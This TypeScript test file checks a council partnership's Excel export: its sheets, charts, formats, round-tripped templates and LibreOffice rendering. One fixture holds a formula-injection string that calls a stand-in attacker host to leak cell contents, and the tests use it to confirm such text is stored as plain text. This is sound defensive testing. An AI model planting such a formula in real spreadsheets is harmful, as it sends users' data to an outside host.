import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { readFile } from 'node:fs/promises';
import ExcelJS from 'exceljs';
import { validateXML } from 'xmllint-wasm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoPartnership } from '../../../demo/partnership.js';
import { demoCouncilSubmission, demoSubmissions } from '../../../demo/submissions.js';
import { readWorkbookGrids } from '../../../server/workbook/read.js';
import { writeConsolidatedWorkbook } from '../../../server/workbook/write-consolidated.js';
import { writeCouncilTemplate, writePartnershipWorkbook } from '../../../server/workbook/write-template.js';
import { writeXlsx } from '../../../server/workbook/write.js';
import { consolidate } from '../../../shared/consolidate/index.js';
import { COUNCIL_LAYOUTS, MONEY_FORMAT, PARTNERSHIP_LAYOUTS } from '../../../shared/sheets/index.js';
import {
  CONSOLIDATED_CONTRIBUTIONS_LAYOUT,
  CONSOLIDATED_PROJECTS_LAYOUT,
  CONSOLIDATED_SHEETS,
} from '../../../shared/report/index.js';
import { parseCouncilWorkbook, parsePartnershipWorkbook } from '../../../shared/parse/index.js';
import type { ConsolidatedView } from '../../../shared/schemas.js';
import { convertWithLibreOffice, sheetsAsLibreOfficeReadsThem } from '../../helpers/libreoffice.js';
import { pdfPages } from '../../helpers/pdf.js';
import { requireTool } from '../../helpers/tools.js';
import { writtenBytes, zipParts } from '../../helpers/xlsx.js';

const PERIOD = '2026-11';
const INFO = { title: 'Test', subject: 'A test workbook', footer: 'Test partnership' };

function demoView(): ConsolidatedView {
  const records = Object.entries(demoSubmissions(PERIOD)).map(([council, data], i) => ({
    council,
    period: PERIOD,
    version: i + 1,
    submittedAt: `2026-12-0${i + 1}T09:30:00.000Z`,
    review: 'pending' as const,
    data,
  }));
  return consolidate(demoPartnership, records, PERIOD);
}

/** Council text that a spreadsheet would run as a formula if it were written as one. */
const FORMULA_LIKE = {
  title: '=HYPERLINK("http://attacker.example/?d="&A1,"Click for details")',
  update: '+SUM(1,2)',
  owner: '@cmd',
  person: '=1+1',
};

function viewWithFormulaText(): ConsolidatedView {
  const view = structuredClone(demoView());
  const project = view.projects.items[0]!;
  project.title = FORMULA_LIKE.title;
  project.update = FORMULA_LIKE.update;
  view.skills.people[0]!.name = FORMULA_LIKE.person;
  view.dataQuality.warnings.push({ code: 'test', council: 'cherwell', project: null, message: '-2+3' });
  return view;
}

/** The chart parts' elements, sequences and values as ECMA-376 gives them (see the schema's note). */
const CHART_SCHEMA = readFile(new URL('../fixtures/chart-parts.xsd', import.meta.url), 'utf8');

const sheetPartsByName = (parts: Map<string, string>): Map<string, string> => {
  const names = [...(parts.get('xl/workbook.xml') ?? '').matchAll(/<sheet name="([^"]+)" sheetId="(\d+)"/g)];
  return new Map(names.map(([, name, id]) => [name!, parts.get(`xl/worksheets/sheet${id}.xml`) ?? '']));
};

describe('the consolidated workbook', () => {
  it('has the Summary and one Excel table per part of the view, with frozen headers, filters and formats', async () => {
    const view = demoView();
    const bytes = await writtenBytes((out) => writeConsolidatedWorkbook(view, out));

    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(book.worksheets.map((w) => w.name)).toEqual([
      'Summary',
      'Changes',
      'Contributions',
      'Skills coverage',
      'People',
      'Projects',
      'Data quality',
      'Submissions',
      'Trend',
      'Projects by phase',
    ]);
    const parts = await zipParts(bytes);
    const tables = [...parts].filter(([name]) => name.startsWith('xl/tables/')).map(([, xml]) => xml);
    const layouts = Object.values(CONSOLIDATED_SHEETS).filter((s) => typeof s !== 'string');
    for (const layout of layouts) {
      const table = tables.find((t) => t.includes(`name="${layout.table}"`));
      expect(table, layout.table).toBeDefined();
      expect([...table!.matchAll(/<tableColumn id="\d+" name="([^"]+)"/g)].map((m) => m[1])).toEqual(
        layout.columns.map((c) => c.header.replace('&', '&amp;')),
      );
      expect(table).toMatch(/<autoFilter ref="A1:[A-Z]+\d+"\/>/);
      const sheet = book.getWorksheet(layout.sheet)!;
      expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    }

    const contributions = book.getWorksheet('Contributions')!;
    const due = contributions.getColumn(
      CONSOLIDATED_CONTRIBUTIONS_LAYOUT.columns.findIndex((c) => c.key === 'duePence') + 1,
    );
    expect(due.values.slice(2)).toEqual(view.contributions.councils.map((c) => c.duePence / 100));
    expect(contributions.getCell(2, due.number).numFmt).toBe(MONEY_FORMAT);
    expect(contributions.getRow(5).getCell(1).value).toBe('west-oxfordshire');

    const summary = book.getWorksheet('Summary')!;
    const figure = (label: string) => {
      let value: unknown;
      summary.eachRow((row) => {
        if (row.getCell(1).value === label) value = row.getCell(2).value;
      });
      return value;
    };
    expect(figure('Net cost this year (£)')).toBe(259_172.63);
    expect(figure('Skills: No practitioner')).toBe('Technology operations');
    expect(figure('Projects')).toBe(view.projects.totals.count);
  });

  it('colours RAG and status cells with conditional formats', async () => {
    const raw = await zipParts(await writtenBytes((out) => writeConsolidatedWorkbook(demoView(), out)));
    const parts = sheetPartsByName(raw);
    const projects = parts.get('Projects')!;
    const ragColumn = String.fromCharCode(
      65 + CONSOLIDATED_PROJECTS_LAYOUT.columns.findIndex((c) => c.key === 'rag'),
    );
    expect(projects).toContain(`<conditionalFormatting sqref="${ragColumn}2:${ragColumn}8">`);
    for (const rag of ['Red', 'Amber', 'Green']) expect(projects).toContain(`<formula>"${rag}"</formula>`);
    expect(parts.get('Skills coverage')).toContain('<formula>"No practitioner"</formula>');
    expect(parts.get('Contributions')).toContain('<formula>"Behind profile"</formula>');
    // One colour per status, the glossary's, as the e-mail draws it: white bold text on GOV.UK red.
    expect(raw.get('xl/styles.xml')).toContain(
      '<dxf><font><b/><color rgb="FFFFFFFF"/></font><fill><patternFill><bgColor rgb="FFD4351C"/></patternFill></fill></dxf>',
    );
    expect(parts.get('Submissions')).toContain('<formula>"Returned"</formula>');
  });

  it('writes cells that mean what they show: words for statuses, names beside IDs, real date-times', async () => {
    const view = demoView();
    view.submissions[0]!.review = 'returned';
    // 09:30 UTC on 1 July is 10:30 on the UK clock (BST); on 1 December it is 09:30 (GMT).
    view.submissions[0]!.submittedAt = '2026-07-01T09:30:00.000Z';
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(
      (await writtenBytes((out) => writeConsolidatedWorkbook(view, out))) as unknown as ArrayBuffer,
    );
    const table = (name: string) => {
      const sheet = book.getWorksheet(name)!;
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      return {
        sheet,
        rows: sheet
          .getRows(2, sheet.rowCount - 1)!
          .map((row) => Object.fromEntries(header.map((h, i) => [String(h), row.getCell(i + 1)]))),
      };
    };
    const submissions = table('Submissions').rows;
    expect(
      submissions.map((r) => [r['Council ID']!.value, r['Council name']!.value, r['Review']!.value]),
    ).toEqual([
      ['cherwell', 'Cherwell District Council', 'Returned'],
      ['south-oxfordshire', 'South Oxfordshire District Council', 'Awaiting review'],
      ['vale-of-white-horse', 'Vale of White Horse District Council', 'Awaiting review'],
      ['west-oxfordshire', 'West Oxfordshire District Council', 'Awaiting review'],
    ]);
    const submitted = submissions.map((r) => r['Submitted at (UK time)']!);
    expect(submitted.map((c) => c.numFmt)).toEqual(Array(4).fill('dd/mm/yyyy hh:mm'));
    // exceljs gives a date-time cell as a Date whose UTC fields are the wall-clock time.
    expect(submitted.map((c) => (c.value as Date).toISOString())).toEqual([
      '2026-07-01T10:30:00.000Z',
      '2026-12-02T09:30:00.000Z',
      '2026-12-03T09:30:00.000Z',
      '2026-12-04T09:30:00.000Z',
    ]);
    expect(table('Contributions').rows.map((r) => r['Status']!.value)).toEqual(
      view.contributions.councils.map(
        (c) => ({ paid: 'Paid for the year', 'on-track': 'On track', behind: 'Behind profile' })[c.status],
      ),
    );
    expect(new Set(table('Skills coverage').rows.map((r) => r['Status']!.value))).toEqual(
      new Set(['Covered', 'One practitioner', 'No practitioner']),
    );
    const quality = table('Data quality').rows.filter((r) => r['Council ID']!.value);
    expect(quality.length).toBeGreaterThan(0);
    for (const r of quality) expect(String(r['Council name']!.value)).toMatch(/District Council$/);
  });

  it('says what the workbook is in its document properties', async () => {
    const parts = await zipParts(await writtenBytes((out) => writeConsolidatedWorkbook(demoView(), out)));
    const core = parts.get('docProps/core.xml')!;
    expect(core).toContain(
      '<dc:title>Oxfordshire Districts Digital Partnership: consolidated view</dc:title>',
    );
    expect(core).toContain(
      '<dc:subject>Consolidated view for November 2026 (financial year 2026-27)</dc:subject>',
    );
    expect(core).toContain('<dc:creator>Shared CDO</dc:creator>');
    const created = /<dcterms:created xsi:type="dcterms:W3CDTF">([^<]+)<\/dcterms:created>/.exec(core)![1]!;
    expect(Math.abs(Date.parse(created) - Date.now())).toBeLessThan(60_000);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(
      (await writtenBytes((out) => writeConsolidatedWorkbook(demoView(), out))) as unknown as ArrayBuffer,
    );
    expect(book).toMatchObject({
      title: 'Oxfordshire Districts Digital Partnership: consolidated view',
      subject: 'Consolidated view for November 2026 (financial year 2026-27)',
      creator: 'Shared CDO',
    });
    const template = await zipParts(
      await writtenBytes((out) =>
        writeCouncilTemplate(out, { council: 'cherwell', period: PERIOD, partnership: demoPartnership }),
      ),
    );
    expect(template.get('docProps/core.xml')).toContain(
      '<dc:subject>Shared CDO return for November 2026</dc:subject>',
    );
    expect(template.get('docProps/core.xml')).toContain(
      '<dc:title>Cherwell District Council: return for November 2026</dc:title>',
    );
  });

  it('writes council text that looks like a formula as text, never as a formula', async () => {
    const bytes = await writtenBytes((out) => writeConsolidatedWorkbook(viewWithFormulaText(), out));
    // The only formulas are the counts by phase and RAG the workbook itself writes.
    for (const [name, xml] of sheetPartsByName(await zipParts(bytes))) {
      if (name === 'Projects by phase') expect(xml.match(/<f>(?!COUNTIFS\()/), name).toBeNull();
      else expect(xml, name).not.toMatch(/<f[ >]/);
    }
    const grids = await readWorkbookGrids(bytes);
    const projects = grids.Projects!.values;
    expect(projects[1]![1]).toBe(FORMULA_LIKE.title);
    expect(projects[1]!.at(-1)).toBe(FORMULA_LIKE.update);
    expect(grids.People!.values[1]![0]).toBe(FORMULA_LIKE.person);
    expect(grids['Data quality']!.values.at(-1)!.at(-1)).toBe('-2+3');
  });

  it("draws native charts on the Summary from the workbook's own tables, in parts shaped as Excel expects", async () => {
    const view = demoView();
    const parts = await zipParts(await writtenBytes((out) => writeConsolidatedWorkbook(view, out)));
    expect(parts.get('xl/worksheets/_rels/sheet1.xml.rels')).toContain('../drawings/drawing1.xml');
    expect(parts.get('xl/drawings/_rels/drawing1.xml.rels')).toContain('../charts/chart4.xml');
    const types = parts.get('[Content_Types].xml')!;
    const charts = [1, 2, 3, 4].map((n) => parts.get(`xl/charts/chart${n}.xml`)!);
    charts.forEach((_, i) =>
      expect(types).toContain(
        `<Override PartName="/xl/charts/chart${i + 1}.xml" ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>`,
      ),
    );
    const schema = await CHART_SCHEMA;
    const problems = async (xml: string) =>
      (
        await validateXML({
          xml: [{ fileName: 'chart.xml', contents: xml }],
          schema: [{ fileName: 'chart-parts.xsd', contents: schema }],
        })
      ).errors.map((e) => e.message);
    for (const xml of charts) expect(await problems(xml)).toEqual([]);
    // The schema does hold the order: a title after autoTitleDeleted is refused.
    const reordered = charts[0]!.replace(/(<c:title>.*<\/c:title>)(<c:autoTitleDeleted val="0"\/>)/, '$2$1');
    expect(reordered).not.toBe(charts[0]);
    expect((await problems(reordered)).join('\n')).toMatch(/title.*not expected/);
    const formulas = (xml: string) => [...xml.matchAll(/<c:f>([^<]+)<\/c:f>/g)].map((m) => m[1]);
    const [money, phases, trend] = charts as [string, string, string];
    // Four councils: names in column B, profiled due in F and contributed in I of the Contributions table
    // (profiled due first: bars are drawn from the bottom up).
    expect(formulas(money)).toEqual([
      "'Contributions'!$F$1",
      "'Contributions'!$B$2:$B$5",
      "'Contributions'!$F$2:$F$5",
      "'Contributions'!$I$1",
      "'Contributions'!$B$2:$B$5",
      "'Contributions'!$I$2:$I$5",
    ]);
    expect(money).toContain('<c:v>Cherwell District Council</c:v>');
    expect(phases).toContain("<c:f>'Projects by phase'!$B$2:$B$7</c:f>");
    // Column B counts the returns; the money is in C and D.
    expect(trend).toContain(`<c:f>'Trend'!$C$2:$C$${1 + view.trend.months.length}</c:f>`);
    expect(parts.get('xl/drawings/drawing1.xml')).toContain('descr="Stacked column chart:');
  });

  it('leaves a month no return counts for blank on the Trend sheet, and its chart draws a gap there', async () => {
    // April to November; no return counts until August, so April to July have no project counts.
    const view = structuredClone(demoView());
    expect(view.trend.months).toHaveLength(8);
    view.trend.returns = [0, 0, 0, 0, 1, 2, 4, 4];
    view.trend.rag = {
      Red: [null, null, null, null, 1, 0, 2, 1],
      Amber: [null, null, null, null, 0, 3, 1, 2],
      Green: [null, null, null, null, 2, 2, 3, 4],
    };
    const bytes = await writtenBytes((out) => writeConsolidatedWorkbook(view, out));
    const trend = (await readWorkbookGrids(bytes)).Trend!.values;
    expect(trend[0]!.slice(4)).toEqual(['Red', 'Amber', 'Green']);
    // A row's blank cells at its end are not read at all: April to July have nothing in Red to Green.
    expect(trend.slice(1).map((row) => row.slice(4))).toEqual([
      [],
      [],
      [],
      [],
      [1, 0, 2],
      [0, 3, 2],
      [2, 1, 3],
      [1, 2, 4],
    ]);
    const chart = (await zipParts(bytes)).get('xl/charts/chart4.xml')!;
    const series = [...chart.matchAll(/<c:ser>.*?<\/c:ser>/g)].map((m) => m[0]);
    expect(series.map((xml) => /<c:tx><c:strRef><c:f>([^<]+)</.exec(xml)![1])).toEqual([
      "'Trend'!$E$1",
      "'Trend'!$F$1",
      "'Trend'!$G$1",
    ]);
    // Each series' cache has eight months but points only for August to November: April to July are blank.
    const cached = (xml: string) => {
      const values = /<c:val>.*<\/c:val>/.exec(xml)![0];
      return {
        ref: /<c:f>([^<]+)</.exec(values)![1],
        count: /<c:ptCount val="(\d+)"\/>/.exec(values)![1],
        points: [...values.matchAll(/<c:pt idx="(\d+)"><c:v>([^<]*)</g)].map((m) => [
          Number(m[1]),
          Number(m[2]),
        ]),
      };
    };
    expect(cached(series[0]!)).toEqual({
      ref: "'Trend'!$E$2:$E$9",
      count: '8',
      points: [
        [4, 1],
        [5, 0],
        [6, 2],
        [7, 1],
      ],
    });
    expect(cached(series[2]!).points).toEqual([
      [4, 2],
      [5, 2],
      [6, 3],
      [7, 4],
    ]);
    expect(chart).toContain('<c:dispBlanksAs val="gap"/>');
  });

  it("lists the contributions chart's legend in the order of its bars, top down as the e-mail draws them", async () => {
    const bytes = await writtenBytes((out) => writeConsolidatedWorkbook(demoView(), out));
    const chart = (await zipParts(bytes)).get('xl/charts/chart1.xml')!;
    expect(chart).toContain('<c:barDir val="bar"/>');
    // Categories from the bottom up: Excel and LibreOffice then both list the legend from the top bar of
    // each council down (LibreOffice reverses a horizontal bar chart's legend whatever the axis says).
    expect(/<c:catAx>.*?<c:orientation val="(\w+)"\/>/.exec(chart)![1]).toBe('minMax');
    const names = [...chart.matchAll(/<c:ser>.*?<c:tx>.*?<c:v>([^<]+)<\/c:v>/g)].map((m) => m[1]);
    // The last series is the top bar of each pair, and first in the legend: contributed, then profiled due.
    expect(names).toEqual(['Profiled due to date (£)', 'Contributed to date (£)']);
  });

  it('counts projects by phase and RAG with formulas over the Projects table, and has Excel recalculate them', async () => {
    const view = demoView();
    const parts = await zipParts(await writtenBytes((out) => writeConsolidatedWorkbook(view, out)));
    const byPhase = sheetPartsByName(parts).get('Projects by phase')!;
    const last = 1 + view.projects.items.length;
    const redInDiscovery = view.projects.items.filter(
      (p) => p.phase === 'Discovery' && p.rag === 'Red',
    ).length;
    expect(byPhase).toContain(
      `<f>COUNTIFS('Projects'!$F$2:$F$${last},$A3,'Projects'!$G$2:$G$${last},B$1)</f><v>${redInDiscovery}</v>`,
    );
    expect(parts.get('xl/workbook.xml')).toContain('<calcPr fullCalcOnLoad="1"/>');
  });

  it('ends the write with an error, not a hang, when a sheet cannot be produced', async () => {
    const broken = writtenBytes((out) =>
      writeXlsx(
        [{ name: 'Data', columns: [{ header: 'A', width: 8 }], rows: [[1]], rowCount: 2 }],
        out,
        INFO,
      ),
    );
    await expect(broken).rejects.toThrow(/1 rows written, 2 announced/);
  });
});

describe('the council template and the partnership workbook', () => {
  it('round-trips a council return: what the template holds parses back to the same rows', async () => {
    const submission = demoCouncilSubmission('south-oxfordshire', PERIOD);
    // Text that looks like markup to a byte scan must not get the workbook refused on its way back.
    submission.contributions[0]!.notes = 'Cell style t="d" & <b>bold</b> in the note';
    const bytes = await writtenBytes((out) =>
      writeCouncilTemplate(out, {
        council: 'south-oxfordshire',
        period: PERIOD,
        partnership: demoPartnership,
        submission,
      }),
    );
    const parsed = parseCouncilWorkbook(await readWorkbookGrids(bytes), { partnership: demoPartnership });
    expect(parsed.problems).toEqual([]);
    expect(parsed.about).toEqual({ council: 'south-oxfordshire', period: PERIOD, layoutVersion: 1 });
    expect(parsed.submission).toEqual(submission);
  });

  it('gives an empty template the three tables, drop-down lists from the partnership and a hidden Lists sheet', async () => {
    const bytes = await writtenBytes((out) =>
      writeCouncilTemplate(out, { council: 'cherwell', period: '2027-02', partnership: demoPartnership }),
    );
    const parsed = parseCouncilWorkbook(await readWorkbookGrids(bytes), {});
    expect(parsed.ok).toBe(true);
    expect(parsed.submission).toEqual({ period: '2027-02', contributions: [], skills: [], projects: [] });

    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    expect(book.worksheets.map((w) => [w.name, w.state])).toEqual([
      ['About', 'visible'],
      ['Contributions', 'visible'],
      ['Skills', 'visible'],
      ['Projects', 'visible'],
      ['Lists', 'hidden'],
    ]);
    const lists = book.getWorksheet('Lists')!;
    const listColumn = (title: string) => {
      const column = (lists.getRow(1).values as unknown[]).indexOf(title);
      return (lists.getColumn(column).values as unknown[])
        .slice(2)
        .filter((v) => v !== undefined && v !== null);
    };
    expect(listColumn('Budget lines')).toEqual(demoPartnership.budget.map((b) => b.budgetLine));
    expect(listColumn('Councils')).toEqual(demoPartnership.councils.map((c) => c.id));

    const sheets = sheetPartsByName(await zipParts(bytes));
    for (const layout of COUNCIL_LAYOUTS) {
      const xml = sheets.get(layout.sheet)!;
      for (const column of layout.columns.filter((c) => c.list)) {
        const letter = String.fromCharCode(65 + layout.columns.indexOf(column));
        expect(xml, `${layout.sheet} ${column.header}`).toMatch(
          new RegExp(
            `<dataValidation type="list"[^>]*sqref="${letter}2:${letter}10002"><formula1>Lists!\\$[A-Z]+\\$2:`,
          ),
        );
      }
    }
    expect(sheets.get('Skills')).toContain('<formula1>0</formula1><formula2>23</formula2>');
    // A value no check could accept is refused at once.
    expect(sheets.get('Contributions')).toMatch(
      /<dataValidation type="list"[^>]*errorStyle="stop" errorTitle="Type" error="Choose Type from the list."[^>]*sqref="B2:/,
    );
  });

  it('round-trips the partnership workbook', async () => {
    const bytes = await writtenBytes((out) => writePartnershipWorkbook(out, demoPartnership));
    const { partnership, problems } = parsePartnershipWorkbook(await readWorkbookGrids(bytes));
    expect(problems).toEqual([]);
    expect(partnership).toEqual(demoPartnership);
    const sheets = sheetPartsByName(await zipParts(bytes));
    expect([...sheets.keys()]).toEqual(['Settings', ...PARTNERSHIP_LAYOUTS.map((l) => l.sheet), 'Lists']);
    expect(sheets.get('Settings')).toMatch(/<dataValidation type="list"[^>]*sqref="B3:B3">/);
    // A council may be typed by its name as well as its ID, so the council list only warns.
    expect(sheets.get('CDO time')).toMatch(
      /<dataValidation type="list"[^>]*errorStyle="warning" errorTitle="Council ID"[^>]*sqref="B2:/,
    );
  });
});

const hasLibreOffice = requireTool('libreoffice');

describe.skipIf(!hasLibreOffice)('opened in LibreOffice', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'consolidated-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  it('shows the consolidated figures of the JSON view, and formula-like text as text', async () => {
    const view = viewWithFormulaText();
    const file = path.join(dir, 'consolidated.xlsx');
    await writeFile(file, await writtenBytes((out) => writeConsolidatedWorkbook(view, out)));
    const sheets = await sheetsAsLibreOfficeReadsThem(file);
    expect(Object.keys(sheets).sort()).toEqual(
      [
        'Changes',
        'Contributions',
        'Data quality',
        'People',
        'Projects',
        'Projects by phase',
        'Skills coverage',
        'Submissions',
        'Summary',
        'Trend',
      ].sort(),
    );

    const [header, ...rows] = sheets.Contributions!;
    expect(header).toEqual(CONSOLIDATED_CONTRIBUTIONS_LAYOUT.columns.map((c) => c.header));
    const pence = (column: string) => {
      const index = header!.indexOf(column);
      return rows.map((r) => Math.round(Number(r[index]) * 100));
    };
    const sum = (values: number[]) => values.reduce((a, b) => a + b, 0);
    const { totals, councils } = view.contributions;
    expect(pence('Due for the year (£)')).toEqual(councils.map((c) => c.duePence));
    expect(sum(pence('Due for the year (£)'))).toBe(totals.duePence);
    expect(sum(pence('Contributed to date (£)'))).toBe(totals.contributedPence);
    expect(sum(pence('Balance (£)'))).toBe(totals.outstandingPence - totals.overpaidPence);

    const summary = new Map(sheets.Summary!.map((r) => [r[0], r[1]]));
    expect(Math.round(Number(summary.get('Net cost this year (£)')) * 100)).toBe(
      view.contributions.netCostPence,
    );
    expect(Math.round(Number(summary.get('Contributed to date (£)')) * 100)).toBe(totals.contributedPence);

    const projects = sheets.Projects!;
    expect(projects[1]![1]).toBe(FORMULA_LIKE.title);
    expect(projects[1]!.at(-1)).toBe(FORMULA_LIKE.update);
    expect(sum(projects.slice(1).map((r) => Math.round(Number(r[10]) * 100)))).toBe(
      view.projects.totals.spentPence,
    );
  });

  it('draws the four charts from the workbook’s tables when it prints the workbook to PDF', async () => {
    const view = demoView();
    const file = path.join(dir, 'charts.xlsx');
    await writeFile(file, await writtenBytes((out) => writeConsolidatedWorkbook(view, out)));
    // LibreOffice's own file format says which cells each chart it imported draws from…
    const outDir = await mkdtemp(path.join(dir, 'out-'));
    const [flat] = await convertWithLibreOffice(file, 'fods', outDir);
    const fods = await readFile(flat!, 'utf8');
    const ranges = [...fods.matchAll(/chart:values-cell-range-address="([^"]+)"/g)].map((m) =>
      m[1]!.replaceAll('&apos;', "'"),
    );
    const months = view.trend.months.length;
    expect(ranges).toEqual([
      'Contributions.F2:Contributions.F5',
      'Contributions.I2:Contributions.I5',
      "'Projects by phase'.B2:'Projects by phase'.B7",
      "'Projects by phase'.C2:'Projects by phase'.C7",
      "'Projects by phase'.D2:'Projects by phase'.D7",
      `Trend.C2:Trend.C${months + 1}`,
      `Trend.D2:Trend.D${months + 1}`,
      `Trend.E2:Trend.E${months + 1}`,
      `Trend.F2:Trend.F${months + 1}`,
      `Trend.G2:Trend.G${months + 1}`,
    ]);
    // …and that each leaves a gap at a blank cell (a month with no data), never a zero.
    expect([...fods.matchAll(/chart:treat-empty-cells="([^"]+)"/g)].map((m) => m[1])).toEqual(
      Array(4).fill('leave-gap'),
    );
    // …and its PDF of the workbook carries each chart's title and legend, drawn on the Summary's pages.
    const [pdf] = await convertWithLibreOffice(file, 'pdf', await mkdtemp(path.join(dir, 'pdf-')));
    const pages = await pdfPages(new Uint8Array(await readFile(pdf!)));
    const summaryPage = pages
      .filter((p) => / Summary · Page \d+ of \d+/.test(p.text))
      .map((p) => p.text)
      .join(' ');
    for (const text of [
      'Contributed to date against profiled due',
      `The year so far: contributed against profiled due, ${view.financialYear}`,
      'Profiled due to date (£)',
      'Amber',
    ]) {
      expect(summaryPage).toContain(text);
    }
    expect(pages.some((p) => p.text.includes(`Projects by RAG, month by month, ${view.financialYear}`))).toBe(
      true,
    );
    // Its web page export draws each chart object as a picture: these are docs/workbook-chart-*.png.
    const htmlDir = await mkdtemp(path.join(dir, 'html-'));
    const exported = await convertWithLibreOffice(file, 'html', htmlDir);
    const page = await readFile(
      exported.find((f) => f.endsWith('.html'))!,
      'utf8',
    );
    const pictures = [...page.matchAll(/<img src="([^"]+\.png)"/g)].map((m) => path.join(htmlDir, m[1]!));
    expect(pictures).toHaveLength(4);
    const shots = process.env.SCREENSHOT_DIR ?? (await mkdtemp(path.join(dir, 'shots-')));
    for (const [i, name] of ['contributions', 'projects', 'trend', 'rag-trend'].entries()) {
      const png = await readFile(pictures[i]!);
      expect(png.subarray(1, 4).toString('latin1')).toBe('PNG');
      expect(png.length).toBeGreaterThan(5_000);
      await writeFile(path.join(shots, `workbook-chart-${name}.png`), png);
    }
  });

  it('shows awkward text exactly as given: markup characters, edge spaces, Excel escape look-alikes', async () => {
    const texts = [
      'a<b & c>d "quoted"',
      '  two leading spaces',
      'trailing space ',
      '_x0041_ is not an A',
      'bell\u0007gone',
    ];
    const file = path.join(dir, 'texts.xlsx');
    await writeFile(
      file,
      await writtenBytes((out) =>
        writeXlsx(
          [
            {
              name: 'Texts',
              columns: [{ header: 'Text', width: 30 }],
              rows: texts.map((t) => [t]),
              rowCount: texts.length,
            },
          ],
          out,
          INFO,
        ),
      ),
    );
    const sheets = await sheetsAsLibreOfficeReadsThem(file);
    expect(sheets.Texts!.slice(1).map((r) => r[0])).toEqual([...texts.slice(0, 4), 'bellgone']);
  });

  it('opens a pre-filled council template with its About values', async () => {
    const file = path.join(dir, 'cherwell.xlsx');
    const submission = demoCouncilSubmission('cherwell', PERIOD);
    await writeFile(
      file,
      await writtenBytes((out) =>
        writeCouncilTemplate(out, {
          council: 'cherwell',
          period: PERIOD,
          partnership: demoPartnership,
          submission,
        }),
      ),
    );
    const sheets = await sheetsAsLibreOfficeReadsThem(file);
    expect(sheets.About!.slice(1, 4)).toEqual([
      ['Council ID', 'cherwell'],
      ['Period', PERIOD],
      ['Layout version', '1'],
    ]);
    expect(sheets.Projects!.length - 1).toBe(submission.projects.length);
  });
});

describe('input prompts', () => {
  it('gives every column of the council and partnership sheets one sentence saying what it wants', () => {
    for (const layout of [...COUNCIL_LAYOUTS, ...PARTNERSHIP_LAYOUTS]) {
      for (const column of layout.columns) {
        const where = `${layout.sheet} ${column.header}`;
        expect(column.prompt, where).toMatch(/^[A-Z].*\.$/);
        // One sentence (a full stop only at the end, or inside a number), short enough for Excel's 255.
        expect(column.prompt!.slice(0, -1), where).not.toMatch(/\.\s/);
        expect(column.prompt!.length, where).toBeLessThanOrEqual(255);
      }
    }
  });

  it('shows each column’s prompt on every row of the template’s tables and far below them', async () => {
    const submission = demoCouncilSubmission('cherwell', PERIOD);
    const bytes = await writtenBytes((out) =>
      writeCouncilTemplate(out, {
        council: 'cherwell',
        period: PERIOD,
        partnership: demoPartnership,
        submission,
      }),
    );
    const sheets = sheetPartsByName(await zipParts(bytes));
    for (const layout of COUNCIL_LAYOUTS) {
      const xml = sheets.get(layout.sheet)!;
      const rows = submission[layout.sheet.toLowerCase() as 'contributions' | 'skills' | 'projects'].length;
      layout.columns.forEach((column, i) => {
        const letter = String.fromCharCode(65 + i);
        const escaped = column.prompt!.replace(/'/g, "'").replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
        expect(xml, `${layout.sheet} ${column.header}`).toMatch(
          new RegExp(
            `<dataValidation [^>]*showInputMessage="1" promptTitle="[^"]+" prompt="${escaped}"[^>]*sqref="${letter}2:${letter}${rows + 1 + 10_000}"`,
          ),
        );
      });
    }
  });
});
